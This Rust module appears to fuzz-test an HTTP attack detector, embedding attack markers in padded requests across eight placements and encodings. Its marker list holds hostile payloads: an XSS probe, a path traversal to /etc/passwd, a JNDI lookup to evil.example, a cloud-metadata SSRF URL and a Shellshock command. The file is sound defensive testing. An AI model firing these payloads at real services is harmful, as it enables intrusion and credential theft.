//! Placement fuzzing (feature `fuzzing`; also built for this crate's unit tests): requests
//! built from arbitrary bytes — how many padding fields, how many padding bytes, where the
//! marker goes and how it is encoded — and the one property every placement must keep: the
//! marker is scored (over the threshold), or the verdict says which work bound was hit
//! (`ScoreAll::partial` non-empty). fuzz/fuzz_targets/placement.rs is a thin wrapper.

use std::sync::OnceLock;

use crate::{Engine, EngineConfig, ScoreInput};

/// Attack texts the pattern stage catches on their own (no model needed). The last is caught
/// only by a rule anchored at the value's start, which padding past the field cap must not
/// move away from it.
pub const MARKERS: [&str; 5] = [
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "http://169.254.169.254/latest/meta-data/",
    "() { _; } >_[$($())] { id; }",
];

/// Where the marker goes.
pub const SPOTS: [&str; 8] = ["query", "path", "form", "json", "multipart", "xml", "header", "cookie"];

/// How the marker is written there: as-is (escaped only as the syntax demands) or with every
/// non-alphanumeric byte percent-encoded.
pub const WRAPS: [&str; 2] = ["plain", "url"];

/// Most padding fields (past the default 1,024-field cap) and bytes (the default body limit).
pub const MAX_PADDING_FIELDS: usize = 4096;
pub const MAX_PADDING_BYTES: usize = 1 << 20;

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PlacementCase {
    pub spot: usize,
    pub wrap: usize,
    pub marker: usize,
    /// Fields of the spot's own kind before the marker (query pairs, form pairs, JSON items,
    /// multipart parts, XML elements, headers, cookies).
    pub padding_fields: usize,
    /// Bytes of one body field before the marker (body spots) or of one header (others).
    pub padding_bytes: usize,
    /// Letter the padding is made of.
    pub filler: u8,
}

impl PlacementCase {
    /// Bytes 0–2 pick spot, wrap and marker; 3–4 the field count; 5–7 the byte count; 8 the filler.
    pub fn from_bytes(data: &[u8]) -> PlacementCase {
        let at = |i: usize| data.get(i).copied().unwrap_or(0) as usize;
        PlacementCase {
            spot: at(0) % SPOTS.len(),
            wrap: at(1) % WRAPS.len(),
            marker: at(2) % MARKERS.len(),
            padding_fields: (at(3) << 8 | at(4)) % (MAX_PADDING_FIELDS + 1),
            padding_bytes: (at(5) << 16 | at(6) << 8 | at(7)) % (MAX_PADDING_BYTES + 1),
            filler: b'a' + (at(8) % 26) as u8,
        }
    }

    /// The scorer's input: `"{METHOD} {path}?{query}\n{body}"` and the headers.
    pub fn request(&self) -> (String, Vec<(String, String)>) {
        let marker = match WRAPS[self.wrap] {
            "url" => percent_all(MARKERS[self.marker]),
            _ => MARKERS[self.marker].to_string(),
        };
        let pad = (self.filler as char).to_string().repeat(self.padding_bytes);
        let n = self.padding_fields;
        let mut headers = vec![("host".to_string(), "shop.example".to_string())];
        let text = match SPOTS[self.spot] {
            "query" => format!("GET /search?{}pad={pad}&q={}\n", "a&".repeat(n), query_escape(&marker)),
            "path" => format!("GET /files/{}/{}?{}\n", pad, query_escape(&marker).replace('/', "%2F"), "a&".repeat(n)),
            "form" => {
                headers.push(("content-type".into(), "application/x-www-form-urlencoded".into()));
                format!("POST /comment\n{}pad={pad}&comment={}", "a=1&".repeat(n), query_escape(&marker))
            }
            "json" => {
                headers.push(("content-type".into(), "application/json".into()));
                let value = serde_json::Value::String(marker).to_string();
                format!("POST /api\n{{\"items\":[{}0],\"pad\":\"{pad}\",\"comment\":{value}}}", "0,".repeat(n))
            }
            "multipart" => {
                headers.push(("content-type".into(), "multipart/form-data; boundary=XyZ".into()));
                let part = |name: &str, value: &str| format!("--XyZ\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
                let padding: String = (0..n).map(|i| part(&format!("p{i}"), "1")).collect();
                format!("POST /upload\n{padding}{}{}--XyZ--\r\n", part("pad", &pad), part("note", &marker))
            }
            "xml" => {
                headers.push(("content-type".into(), "application/xml".into()));
                let escaped = marker.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
                format!("POST /api\n<r>{}<pad>{pad}</pad><note>{escaped}</note></r>", "<i>1</i>".repeat(n))
            }
            "header" => {
                headers.extend((0..n).map(|i| (format!("x-pad-{i}"), "1".to_string())));
                headers.push(("x-pad".into(), pad));
                headers.push(("x-custom-data".into(), marker));
                "GET /\n".to_string()
            }
            _ => {
                let cookies: String = (0..n).map(|i| format!("c{i}=1; ")).collect();
                headers.push(("cookie".into(), format!("{cookies}pad={pad}; pref={}", marker.replace([';', ','], "%3B"))));
                "GET /\n".to_string()
            }
        };
        (text, headers)
    }
}

/// A patterns-only engine (the markers need no model), built once per process.
pub fn engine() -> &'static Engine {
    static ENGINE: OnceLock<Engine> = OnceLock::new();
    ENGINE.get_or_init(|| Engine::new(EngineConfig { models_dir: None, ..EngineConfig::default() }).expect("built-in rules compile"))
}

/// The property: the marker is caught, or the verdict is marked partial.
pub fn check(engine: &Engine, case: &PlacementCase) -> Result<(), String> {
    let (text, headers) = case.request();
    let verdict = engine.score_patterns(&ScoreInput { request_text: &text, headers: &headers });
    if verdict.score > engine.threshold() || !verdict.partial.is_empty() {
        Ok(())
    } else {
        Err(format!(
            "marker {:?} in {} ({}) after {} padding fields and {} padding bytes scored {} with no partial mark",
            MARKERS[case.marker], SPOTS[case.spot], WRAPS[case.wrap], case.padding_fields, case.padding_bytes, verdict.score
        ))
    }
}

fn percent_all(text: &str) -> String {
    text.bytes().map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") }).collect()
}

/// Escapes what would end a query/form value (`&`, `+`, `#`, `%` stays so url-wrapped markers
/// arrive as written).
fn query_escape(text: &str) -> String {
    text.replace('&', "%26").replace('+', "%2B").replace('#', "%23").replace(' ', "%20")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn case(spot: usize, wrap: usize, marker: usize, padding_fields: usize, padding_bytes: usize) -> PlacementCase {
        PlacementCase { spot, wrap, marker, padding_fields, padding_bytes, filler: b'q' }
    }

    #[test]
    fn the_marker_is_scored_in_every_spot_and_wrap_within_the_field_cap() {
        let mut failures = Vec::new();
        for spot in 0..SPOTS.len() {
            for wrap in 0..WRAPS.len() {
                for marker in 0..MARKERS.len() {
                    for (fields, bytes) in [(0, 0), (10, 100), (500, 64 << 10)] {
                        if let Err(e) = check(engine(), &case(spot, wrap, marker, fields, bytes)) {
                            failures.push(e);
                        }
                    }
                }
            }
        }
        assert!(failures.is_empty(), "{} cases:\n{}", failures.len(), failures.join("\n"));
    }

    /// Issue 11 finding 1: fields past the 1,024th used to be dropped unscored with nothing
    /// marking the verdict partial.
    #[test]
    fn the_marker_is_scored_or_marked_partial_past_the_field_cap() {
        for spot in 0..SPOTS.len() {
            for marker in 0..MARKERS.len() {
                check(engine(), &case(spot, 0, marker, 1_100, 0)).unwrap();
            }
        }
    }

    #[test]
    fn bytes_map_onto_every_dimension() {
        let c = PlacementCase::from_bytes(&[9, 3, 6, 0x10, 0x01, 0xff, 0xff, 0xff, 30]);
        assert_eq!((c.spot, c.wrap, c.marker), (1, 1, 6 % MARKERS.len()));
        assert_eq!(c.padding_fields, 0x1001 % (MAX_PADDING_FIELDS + 1));
        assert_eq!(c.padding_bytes, 0xffffff % (MAX_PADDING_BYTES + 1));
        assert_eq!(c.filler, b'e');
        assert_eq!(PlacementCase::from_bytes(&[]), case(0, 0, 0, 0, 0).with_filler(b'a'));
    }

    impl PlacementCase {
        fn with_filler(mut self, filler: u8) -> Self {
            self.filler = filler;
            self
        }
    }
}
